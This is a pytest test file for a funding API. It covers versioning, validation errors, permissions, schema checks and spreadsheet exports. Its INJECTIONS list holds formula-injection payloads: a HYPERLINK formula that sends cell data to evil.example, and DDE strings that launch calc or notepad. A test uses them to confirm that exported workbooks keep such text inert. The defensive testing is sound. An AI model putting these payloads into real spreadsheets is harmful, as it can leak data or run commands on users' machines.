"""The funding API: lines as JSON with versions, 409/422, permissions, injection-safe text."""

from __future__ import annotations

from decimal import Decimal

import jsonschema
import pytest

from app.api.openapi import openapi_document
from app.funding import services
from tests.funding.support import YEAR, api_lines, book, put, upload

D = Decimal
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+2",
    "=cmd|' /C notepad'!'A1'",
]


def test_get_before_anything_is_saved(api_as, make_case):
    """No version yet: version null and no lines."""
    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    body = api.get(f"/cases/{case.id}/funding").json
    assert body["version"] is None and body["lines"] == [] and body["case_id"] == case.id


def test_put_then_get_round_trips_every_field(api_as, make_case):
    """What is PUT comes back exactly, numbers as numbers, with totals and author."""
    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    response = put(api, case.id, api_lines())
    assert response.status_code == 200, response.json
    assert response.json["version"] == 1
    assert [c["kind"] for c in response.json["changes"]] == ["added"] * 3
    body = api.get(f"/cases/{case.id}/funding?year={YEAR}").json
    first, second, _third = body["lines"]
    # Lines sent the old way (annual_cost only) come back as yearly lines with the new fields.
    assert first == {
        **api_lines()[0],
        "cost_kind": "yearly",
        "amount": 120000,
        "quantity": None,
        "quantity_unit": None,
        "split_reason": "",
    }
    assert second["annual_cost"] == 50000.5 and second["end"] is None
    assert second["shares"] == {"boernehandicap": 33.33, "skole_dagtilbud": 33.33, "fritid": 33.34}
    assert second["authority_level"] is None and second["notes"] == ""
    assert body["updated_by"]["id"] == api.user.id and body["source"] == "api"
    assert body["totals"]["year"] == YEAR
    assert body["totals"]["departments"]["ppr"] == {"year": 48000.0, "period": 48000.0}


def test_answers_match_the_openapi_schemas(api_as, make_case):
    """GET, PUT, 409 and the import's 422 validate against the documented schemas."""
    spec = openapi_document()

    def check(body, name):
        jsonschema.validate(body, {"$ref": f"#/components/schemas/{name}", **spec})

    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    check(api.get(f"/cases/{case.id}/funding").json, "Funding")
    check(put(api, case.id, api_lines()).json, "FundingSaved")
    check(put(api, case.id, api_lines()).json, "Error")
    check(upload(api, case.id, b"not a workbook").json, "ImportProblems")


def test_version_zero_is_also_a_first_save(api_as, make_case):
    """null and 0 both mean 'nothing saved yet'."""
    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    assert put(api, case.id, api_lines(), version=0).json["version"] == 1


def test_stale_version_is_409_with_the_current_split(api_as, make_case):
    """Someone saved in between: 409, nothing stored, the current split in the answer."""
    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    put(api, case.id, api_lines())
    put(api, case.id, api_lines()[:2], version=1)
    response = put(api, case.id, api_lines()[:1], version=1)
    assert response.status_code == 409
    assert response.json["current"]["version"] == 2
    assert len(response.json["current"]["lines"]) == 2
    assert put(api, case.id, api_lines()[:1], version=None).status_code == 409
    assert api.get(f"/cases/{case.id}/funding").json["version"] == 2


def test_bad_lines_are_422_with_errors_by_path(api_as, make_case):
    """Per-field errors, e.g. lines[0].shares; nothing stored."""
    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    lines = api_lines()
    lines[0]["shares"] = {"boernehandicap": 60, "ppr": 50}
    lines[2]["annual_cost"] = "mange"
    lines[2]["start"] = "31-12-2026"
    response = put(api, case.id, lines)
    assert response.status_code == 422
    errors = response.json["errors"]
    assert errors["lines[0].shares"] == ["Andelene summerer til 110 %, skal være 100 %."]
    assert set(errors) == {"lines[0].shares", "lines[2].annual_cost", "lines[2].start"}
    assert api.get(f"/cases/{case.id}/funding").json["version"] is None
    assert put(api, case.id, api_lines(), version="1").status_code == 422
    no_json = api.put(f"/cases/{case.id}/funding", data="x", content_type="text/plain")
    assert no_json.status_code == 400


def test_coordinator_not_on_the_case_gets_404(api_as, make_case):
    """The case's existence is not revealed: every funding endpoint answers 404."""
    api = api_as("coordinator")
    case = make_case()
    assert api.get(f"/cases/{case.id}/funding").status_code == 404
    assert put(api, case.id, api_lines()).status_code == 404
    assert api.get(f"/cases/{case.id}/funding.xlsx").status_code == 404
    assert upload(api, case.id, b"x").status_code == 404


def test_controller_reads_and_edits_funding_but_not_forms(api_as, make_case):
    """Controllers work with money on every case, never the family's forms."""
    api = api_as("controller")
    case = make_case()
    assert put(api, case.id, api_lines()).status_code == 200
    assert api.get(f"/cases/{case.id}/funding").json["version"] == 1
    assert api.get(f"/cases/{case.id}/funding.xlsx").status_code == 200
    assert api.get(f"/cases/{case.id}/forms/smarte_maal").status_code == 403
    assert api.put(f"/cases/{case.id}/forms/smarte_maal", json={"version": None}).status_code == 403


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formula_text_comes_back_as_the_same_text(api_as, make_case, payload):
    """Formula-like text is kept as text by the API and in the workbook, never a formula."""
    api = api_as("coordinator")
    case = make_case(coordinator=api.user)
    lines = api_lines()[:1]
    lines[0]["description"] = payload
    lines[0]["notes"] = payload + " (note)"
    assert put(api, case.id, lines).status_code == 200
    line = api.get(f"/cases/{case.id}/funding").json["lines"][0]
    assert line["description"] == payload and line["notes"] == payload + " (note)"
    data = api.get(f"/cases/{case.id}/funding.xlsx").data
    sheet = book(data)["Indsatser"]
    for cell in (sheet["C3"], sheet["L3"]):
        assert cell.data_type == "s", cell.coordinate
    assert sheet["C3"].value == payload and sheet["L3"].value == payload + " (note)"
    # The untouched workbook imports back as exactly the same split: no new version.
    response = upload(api, case.id, data)
    assert response.status_code == 200, response.json
    assert response.json["created"] is False and response.json["version"] == 1


def test_portfolio_has_only_the_cases_the_caller_may_see(api_as, make_case):
    """A coordinator's portfolio holds their cases; a controller's holds all."""
    coordinator, controller = api_as("coordinator"), api_as("controller")
    own = make_case(coordinator=coordinator.user, reference="EGEN-1")
    other = make_case(reference="ANDEN-1")
    put(controller, own.id, api_lines()[:1])
    put(controller, other.id, api_lines()[1:])

    def references(api) -> set[str]:
        response = api.get("/funding/portfolio.xlsx")
        assert response.status_code == 200
        assert response.mimetype.endswith("spreadsheetml.sheet")
        rows = book(response.data)["Linjer"].iter_rows(min_row=2, values_only=True)
        return {row[0] for row in rows if row[0]}

    assert references(coordinator) == {"EGEN-1"}
    assert references(controller) == {"EGEN-1", "ANDEN-1"}


def test_portfolio_totals_match_the_page(api_as, make_case, app):
    """The portfolio service's totals are calc.py's, per department and year."""
    api = api_as("controller")
    case = make_case()
    put(api, case.id, api_lines())
    from app.funding.portfolio import portfolio_rows, portfolio_totals

    totals = portfolio_totals(portfolio_rows(api.user), services.funding_vocab(), YEAR)
    ppr = next(amounts for key, _label, amounts in totals.rows if key == "ppr")
    assert ppr[2026] == D(48000) and totals.years[0] == 2025
